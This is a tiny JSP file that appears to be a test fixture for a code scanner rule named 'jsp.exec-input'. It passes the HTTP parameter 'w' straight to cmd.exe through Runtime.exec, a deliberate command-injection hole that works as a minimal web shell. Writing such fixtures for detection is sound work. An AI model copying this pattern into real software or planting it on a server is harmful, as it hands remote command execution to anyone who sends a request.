<%-- expect rule=jsp.exec-input min=85 --%>
<%!
    private Process launch(String line) throws Exception {
        return Runtime.getRuntime().exec(new String[]{"cmd.exe", "/c", line});
    }
    String relay(String s) throws Exception {
        String t = s.trim();
        launch(t);
        return t;
    }
%>
<%
    relay(request.getParameter("w"));
%>
